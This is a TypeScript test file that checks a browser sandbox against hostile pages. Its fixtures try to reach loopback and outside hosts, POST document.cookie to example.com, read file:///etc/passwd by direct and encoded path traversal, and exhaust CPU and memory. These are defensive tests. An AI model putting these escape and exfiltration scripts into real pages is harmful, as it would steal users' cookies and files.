import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { observePage } from '../../src/stages/trial/page/observe-page.ts';
import { memoryOf, processTree } from '../../src/sandbox/limits/process-tree.ts';
import { nodeChild } from '../helpers/processes/node-child.ts';
import { open, page, whyNot, writeProject } from './trial/open.ts';

describe.skipIf(whyNot !== undefined)('a hostile page', () => {
  test('reaches no local service, no network and no file', async () => {
    const { port, seen } = await listen();
    await fetch(`http://127.0.0.1:${port}/`).catch(() => {});
    expect(seen()).toBe(1);

    const { behaviour, light } = await open({
      'index.html': page(`<h1>Innocent</h1>
<link rel="dns-prefetch" href="//prefetch.example"><link rel="preconnect" href="http://localhost:${port}">
<meta http-equiv="refresh" content="0; url=http://localhost:${port}/refresh">
<iframe src="http://127.0.0.1:${port}/frame"></iframe><iframe src="file:///etc/passwd"></iframe>
<img src="file:///etc/passwd"><img src="http://[::1]:${port}/"><img src="http://0.0.0.0:${port}/">
<a id="download" href="big.bin" download></a><script src="escape.js"></script>`),
      'escape.js': escapes(port),
      'worker.js': '',
      'big.bin': 'x',
    });
    expect(seen()).toBe(1);
    expect(light).toBeDefined();
    const output = behaviour.consoleErrors.join('\n');
    expect(output).toContain('Not allowed to load local resource: file:///etc/passwd');
    expect(output).not.toContain('REACHED');
    expect(output).toContain('tried all');
    expect(behaviour.failedRequests.map(({ url }) => url)).toEqual(
      expect.arrayContaining([`http://127.0.0.1:${port}/frame`]),
    );
  });

  test('has an empty environment, no privileges and none of our files, and ends when it is aborted', async () => {
    vi.stubEnv('JOB_SECRET', 'a-planted-secret');
    onTestFinished(() => void vi.unstubAllEnvs());
    const before = processTree(process.pid);
    const dir = await writeProject({ 'index.html': page('<script>for(;;);</script>') });
    const [running, waiting] = [new AbortController(), new AbortController()];
    const reason = new Error('cancelled');
    const pages = [running, running, waiting].map(({ signal }) => observePage(dir, { signal }));
    const ends = pages.map((one) => one.catch((error: unknown) => error));
    const pids = (await runningPage(process.pid)).filter((pid) => !before.includes(pid));

    expect(pids.map((pid) => proc(pid, 'environ')).join('')).not.toContain('a-planted-secret');
    for (const status of pids.filter(isRenderer).map((pid) => proc(pid, 'status'))) {
      expect(status).toMatch(/^CapEff:\t0+$/m);
      expect(status).toMatch(/^NoNewPrivs:\t1$/m);
      expect(status).not.toMatch(/^Uid:\t0\t/m);
    }

    waiting.abort(reason);
    expect(await ends[2]).toBe(reason);
    running.abort(reason);
    expect(await Promise.all(ends)).toEqual([reason, reason, reason]);
    expect(pids.filter(isAlive)).toEqual([]);
    expect(processTree(process.pid)).toEqual(before);
    await expect(observePage(dir, { signal: running.signal })).rejects.toBe(reason);
  });

  test.each([
    ['never ends', '<script>for (;;);</script>'],
    [
      'asks without end, also when it is left',
      '<script>onbeforeunload = () => { for (;;) alert(1); }; for (;;) confirm(2);</script>',
    ],
    ['reloads itself forever', '<script>setTimeout(() => location.reload(), 20)</script>'],
  ])('that %s is stopped in time', async (_, body) => {
    const { behaviour } = await open({ 'index.html': page(body) }, { timeoutMs: 1_000 });
    expect(behaviour).toMatchObject({
      status: 'failed',
      reason: 'The page did not finish loading within 1 s.',
    });
  });

  test('ends if the process that opened it is killed', async () => {
    const dir = await writeProject({ 'index.html': page('<script>for (;;);</script>') });
    const opener = nodeChild(new URL('./trial/children/opener.ts', import.meta.url), dir);
    const pids = await runningPage(opener.process.pid ?? 0);
    await opener.kill();
    await vi.waitFor(() => expect(pids.filter(isAlive)).toEqual([]), { timeout: 10_000 });
  });

  test.each([
    [
      'in threads',
      `<script>const code = 'const all = []; for (;;) all.push(new Uint8Array(3e7).fill(7))';
      for (let i = 0; i < 4; i += 1) new Worker(URL.createObjectURL(new Blob([code])));</script>`,
    ],
    ['with console output', `<script>for (;;) console.error('x'.repeat(2e8));</script>`],
  ])('that takes all memory %s is stopped, and does not use ours', async (_, body) => {
    const memoryBytes = 500_000_000;
    const before = memoryOf([process.pid]);
    const { behaviour } = await open({ 'index.html': page(body) }, { memoryBytes });
    expect(behaviour).toMatchObject({
      status: 'failed',
      // The driver may run out of its own memory first.
      reason: expect.stringMatching(/more than 500 MB of memory\.$|ended too early\.$/),
    });
    expect(memoryOf([process.pid]) - before).toBeLessThan(100_000_000);
  });

  test('opens no windows, and gets no larger screenshot than others', async () => {
    const { behaviour, light, dark } = await open({
      'index.html': page(`<div style="width: 90000px; height: 900000px"></div><script>
let count = 0;
for (let i = 0; i < 200; i += 1) if (window.open('/?' + i, '_blank', 'width=9000')) count += 1;
console.error('opened ' + count);
for (let i = 0; i < 50; i += 1) console.error(i + 'x'.repeat(9000));
for (let i = 0; i < 50; i += 1) fetch('/' + i + 'y'.repeat(2000));
document.documentElement.requestFullscreen().catch(() => {}); resizeTo(9000, 9000);</script>`),
    });
    expect(behaviour.status).toBe('checked');
    expect(behaviour.consoleErrors[0]).toBe('opened 0');
    expect(behaviour.consoleErrors).toHaveLength(10);
    expect(behaviour.failedRequests).toHaveLength(10);
    expect(JSON.stringify(behaviour).length).toBeLessThan(6_000);
    expect(light).toBeDefined();
    expect(dark).toBeDefined();
  });
});

/** The process tree, once a page runs in the sandbox. */
function runningPage(pid: number): Promise<readonly number[]> {
  return vi.waitFor(
    () => {
      const found = processTree(pid);
      const renderers = found.filter(isRenderer).map((one) => proc(one, 'status'));
      expect(renderers.length).toBeGreaterThan(0);
      for (const status of renderers) expect(status).toMatch(/^Seccomp:\t2$/m);
      return found;
    },
    { timeout: 20_000, interval: 20 },
  );
}

/** Whether a process runs. A zombie does not: its new parent may reap it later. */
function isAlive(pid: number): boolean {
  return /^State:\t[^Z]/m.test(proc(pid, 'status'));
}

function isRenderer(pid: number): boolean {
  return proc(pid, 'cmdline').includes('--type=renderer');
}

/** A server that records all requests, on every loopback address. */
async function listen() {
  let count = 0;
  const server = createServer((socket) => {
    count += 1;
    socket.destroy();
  });
  await once(server.listen(0, '::'), 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const packets = createSocket('udp6', () => {
    count += 1;
  });
  await once(packets.bind(port, '::'), 'listening');
  onTestFinished(() => {
    server.close();
    packets.close();
  });
  return { port, seen: () => count };
}

/** Every way for a script to reach the network. */
function escapes(port: number): string {
  return `
const there = ['http://127.0.0.1:${port}', 'http://localhost:${port}', 'https://example.com'];
const report = (how) => () => console.error('REACHED ' + how);
for (const url of there) {
  fetch(url, { mode: 'no-cors' }).then(report('fetch'), () => {});
  fetch(url, { mode: 'no-cors', method: 'POST', body: document.cookie, keepalive: true }).catch(() => {});
  navigator.sendBeacon(url, 'x');
  const request = new XMLHttpRequest();
  request.onload = report('xhr');
  request.open('GET', url);
  request.send();
  new WebSocket(url.replace('http', 'ws')).onopen = report('websocket');
  new EventSource(url).onopen = report('events');
  window.open(url);
  const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: 'f' });
  document.body.append(form);
  form.submit();
  new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '", { mode: "no-cors" })'])));
}
fetch('file:///etc/passwd').then(report('file'), () => {});
fetch('/../../../etc/passwd').then((answer) => answer.ok && report('path')());
fetch('/..%2f..%2f..%2fetc%2fpasswd').then((answer) => answer.ok && report('path')());
navigator.serviceWorker.register('worker.js').then(() => navigator.serviceWorker.getRegistrations())
  .then((all) => all.length > 0 && report('service worker')(), () => {});
const peer = new RTCPeerConnection({ iceServers: [
  { urls: 'stun:127.0.0.1:${port}' }, { urls: 'turn:127.0.0.1:${port}?transport=tcp', username: 'a', credential: 'b' } ] });
peer.createDataChannel('x');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
new WebTransport('https://127.0.0.1:${port}').ready.then(report('transport'), () => {});
document.querySelector('#download').click();
location.href = 'http://127.0.0.1:${port}/left';
location.href = 'file:///etc/passwd';
console.error('tried all');
`;
}

function proc(pid: number, file: string): string {
  try {
    return readFileSync(`/proc/${pid}/${file}`, 'utf8');
  } catch {
    return '';
  }
}
